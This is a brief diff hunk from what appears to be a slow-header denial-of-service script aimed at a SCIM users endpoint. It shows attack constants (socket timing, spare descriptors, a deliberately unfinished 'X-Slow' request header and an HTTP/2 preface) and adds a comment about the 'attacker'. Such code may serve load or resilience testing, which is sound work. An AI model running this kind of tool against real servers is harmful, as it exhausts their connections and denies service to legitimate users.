@@ -31,7 +31,7 @@ LOOKED_EVERY = 1.5  # seconds; with ten thousand sockets each look keeps a proce
 ACCEPTED_WITHIN = 5  # seconds
 USERS = 1000  # their list is much larger than what the system takes off the server's hands
 SPARE_DESCRIPTORS = 300
-GIVES_WAY = 15
+GIVES_WAY = 15  # how nice the attacker is
 
 HEAD = b"GET /scim/v2/Users HTTP/1.1\r\nHost: x\r\nX-Slow: "
 HTTP2 = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])  # and empty settings
